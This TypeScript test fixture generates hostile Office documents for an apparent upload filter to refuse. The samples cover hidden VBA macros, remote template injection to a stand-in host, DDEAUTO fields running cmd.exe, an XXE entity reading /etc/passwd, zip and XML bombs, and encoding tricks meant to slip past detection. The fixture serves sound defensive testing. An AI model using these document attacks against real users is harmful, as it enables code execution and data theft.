import type { Dice, Hostile } from './hostile-files.ts'
import { OLD } from './hostile-old-office.ts'
import { PAYLOAD } from './hostile-pdfs.ts'
import { docx, letter, PART, type Part, RELATIONS, relations, types, xlsx, zipOf } from './office-files.ts'
import { oldOffice } from './sample-files.ts'

const URL_OUT = `http://${PAYLOAD}.example/t.dotm`
const settings = (tag: string, encode: (text: string) => Buffer | string = (text) => text): Part => ({
  name: 'word/_rels/settings.xml.rels',
  bytes: encode(relations(tag)),
})
const template = (mode = 'TargetMode="External"', target = `Target="${URL_OUT}"`) =>
  `<Relationship Id="r1" Type="${RELATIONS}/attachedTemplate" ${target} ${mode}/>`

const ZERO = (mb: number) => Buffer.alloc(mb * 1024 * 1024)
const nest = (depth: number): Buffer =>
  depth === 0 ? docx() : docx([{ name: 'word/embeddings/a.docx', bytes: nest(depth - 1) }])

const DOCX: [what: string, make: (dice: Dice) => Buffer][] = [
  ['macros', () => docx([{ name: 'word/vbaProject.bin', bytes: PAYLOAD }])],
  ['macros under another case', () => docx([{ name: 'word/VBAPROJECT.BIN', bytes: PAYLOAD }])],
  [
    'the type of a macro document',
    () =>
      docx([
        {
          name: '[Content_Types].xml',
          bytes: types(
            'word/document.xml',
            `${PART}.wordprocessingml.document.main+xml`,
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
          ),
        },
        { name: 'word/odd.bin', bytes: PAYLOAD },
      ]),
  ],
  [
    'that type, written in numbers',
    () =>
      docx([
        {
          name: '[Content_Types].xml',
          bytes: types(
            'word/document.xml',
            `${PART}.wordprocessingml.document.main+xml`,
            '<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>',
          ),
        },
        { name: 'word/odd.bin', bytes: PAYLOAD },
      ]),
  ],
  [
    'a relation to macros',
    () =>
      docx([
        {
          name: 'word/_rels/document.xml.rels',
          bytes: relations(
            '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>',
          ),
        },
      ]),
  ],
  ['ActiveX', () => docx([{ name: 'word/activeX/activeX1.bin', bytes: PAYLOAD }])],
  ['a template from elsewhere', () => docx([settings(template())])],
  [
    'a template in other quotes',
    () => docx([settings(template("TargetMode='External'", `Target='${URL_OUT}'`))]),
  ],
  ['a template in numbers', () => docx([settings(template('TargetMode="&#x45;xternal"'))])],
  [
    'a template in UTF-16',
    () => docx([settings(template(), (text) => Buffer.from(`\ufeff${text}`, 'utf16le'))]),
  ],
  [
    'a template in UTF-16 without a mark',
    () => docx([settings(template(), (text) => Buffer.from(text, 'utf16le').swap16())]),
  ],
  [
    'a template in UTF-7',
    () => docx([settings(template(), (text) => text.replace('"1.0"', '"1.0" encoding="UTF-7"'))]),
  ],
  ['a template with lines between', () => docx([settings(template().replaceAll(' ', '\n\t'))])],
  [
    'a template under a prefix',
    () => docx([settings(template().replace('<Relationship', '<p:Relationship'))]),
  ],
  [
    'a template on a share',
    () => docx([settings(template(undefined, `Target="file:\\\\${PAYLOAD}\\t.dotm"`))]),
  ],
  ['an object from elsewhere', () => docx([settings(template().replace('attachedTemplate', 'oleObject'))])],
  ['a frame from elsewhere', () => docx([settings(template().replace('attachedTemplate', 'frame'))])],
  ['a picture from elsewhere', () => docx([settings(template().replace('attachedTemplate', 'image'))])],
  [
    'a page taken in',
    () =>
      docx([
        settings(`<Relationship Id="r" Type="${RELATIONS}/aFChunk" Target="/word/a.html"/>`),
        { name: 'word/a.html', bytes: `<script>${PAYLOAD}</script>` },
      ]),
  ],
  [
    'entities',
    () =>
      docx([
        {
          name: 'word/document.xml',
          bytes: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${letter('&a;')}`,
        },
      ]),
  ],
  [
    'a billion laughs',
    () =>
      docx([
        {
          name: 'word/document.xml',
          bytes: `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${letter('&b;')}`,
        },
      ]),
  ],
  [
    'a field that runs',
    () =>
      docx([
        {
          name: 'word/document.xml',
          bytes: letter(`<w:instrText>DDEAUTO c:\\\\cmd.exe "/c ${PAYLOAD}"</w:instrText>`),
        },
      ]),
  ],
  [
    'a field in pieces',
    () =>
      docx([
        {
          name: 'word/document.xml',
          bytes: letter(
            ['DD', 'EAU', 'TO ', `cmd ${PAYLOAD}`]
              .map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)
              .join(''),
          ),
        },
      ]),
  ],
  [
    'a simple field that runs',
    () => docx([{ name: 'word/document.xml', bytes: letter(`<w:fldSimple w:instr="DDE cmd ${PAYLOAD}"/>`) }]),
  ],
  ['a bomb', (dice) => docx([{ name: 'word/media/a.bmp', bytes: ZERO(51 + dice.below(8)) }])],
  ['a bomb that lies', () => docx([{ name: 'word/media/a.bmp', bytes: ZERO(55), size: 100 }])],
  [
    'many bombs',
    () =>
      docx(Array.from({ length: 12 }, (_, index) => ({ name: `word/media/${index}.bmp`, bytes: ZERO(5) }))),
  ],
  [
    'a bomb inside',
    () =>
      docx([
        { name: 'word/embeddings/a.docx', bytes: docx([{ name: 'word/a', bytes: ZERO(49) }]) },
        { name: 'word/b', bytes: ZERO(2) },
      ]),
  ],
  ['a document in a document in a document …', (dice) => nest(5 + dice.below(4))],
  [
    'macros in a document inside',
    () =>
      docx([
        { name: 'word/embeddings/a.docx', bytes: docx([{ name: 'word/vbaProject.bin', bytes: PAYLOAD }]) },
      ]),
  ],
  [
    'a program inside',
    () =>
      docx([
        {
          name: 'word/embeddings/oleObject1.bin',
          bytes: oldOffice([['\x01Ole10Native', Buffer.from(PAYLOAD)]]),
        },
      ]),
  ],
  ['entries over each other', () => overlapping()],
  [
    'another name at the entry',
    () => docx([{ name: 'word/a.xml', localName: 'word/vba.xml', bytes: PAYLOAD }]),
  ],
  [
    'an entry that no directory names',
    () =>
      docx([], Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from(PAYLOAD)])),
  ],
  [
    'an entry twice',
    () =>
      docx([
        { name: 'word/a.xml', bytes: 'a' },
        { name: 'Word/A.xml', bytes: PAYLOAD },
      ]),
  ],
  ['a password', () => docx([{ name: 'word/a.xml', bytes: PAYLOAD, isLocked: true }])],
  [
    'too many entries',
    () => docx(Array.from({ length: 2_100 }, (_, index) => ({ name: `word/${index}`, bytes: '' }))),
  ],
  ['another archive before it', () => Buffer.concat([zipOf([{ name: 'run.exe', bytes: PAYLOAD }]), docx()])],
  ['bytes behind it', () => Buffer.concat([docx(), Buffer.from(`<script>${PAYLOAD}</script>`)])],
  ['its end cut off', (dice) => docx().subarray(0, -1 - dice.below(80))],
]

/** Two entries that share the same compressed bytes: the unpacked size grows with the entries. */
function overlapping(): Buffer {
  const whole = docx([
    { name: 'word/a', bytes: ZERO(4) },
    { name: 'word/b', bytes: ZERO(4) },
  ])
  const at = whole.lastIndexOf('PK\x01\x02', undefined, 'latin1')
  const before = whole.lastIndexOf('PK\x01\x02', at - 1, 'latin1')
  whole.copy(whole, at + 42, before + 42, before + 46)
  return whole
}

const XLSX: [what: string, make: () => Buffer][] = [
  ['macro sheets', () => xlsx([{ name: 'xl/macrosheets/sheet1.xml', bytes: PAYLOAD }])],
  ['macros', () => xlsx([{ name: 'xl/vbaProject.bin', bytes: PAYLOAD }])],
  [
    'a link that runs',
    () =>
      xlsx([
        {
          name: 'xl/externalLinks/externalLink1.xml',
          bytes: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c ${PAYLOAD}"/></externalLink>`,
        },
      ]),
  ],
  [
    'a sheet from elsewhere',
    () =>
      xlsx([
        {
          name: 'xl/externalLinks/_rels/e.xml.rels',
          bytes: relations(
            `<Relationship Id="r" Type="${RELATIONS}/externalLinkPath" Target="\\\\${PAYLOAD}\\x.xlsx" TargetMode="External"/>`,
          ),
        },
      ]),
  ],
]

/** Office documents, new and old, with macros, remote content, hidden parts or bombs. */
export function hostileOffice(dice: Dice): Hostile {
  const kind = dice.below(20)
  if (kind < 3) {
    const [what, make] = dice.inTurn(XLSX)
    return { what: `a sheet with ${what}`, name: 'deed.xlsx', bytes: make(), isRefused: true }
  }
  if (kind < 8) {
    const [what, name, make] = dice.inTurn(OLD)
    return { what: `an old document with ${what}`, name, bytes: make(dice), isRefused: true }
  }
  const [what, make] = dice.inTurn(DOCX)
  return { what: `a document with ${what}`, name: 'deed.docx', bytes: make(dice), isRefused: true }
}
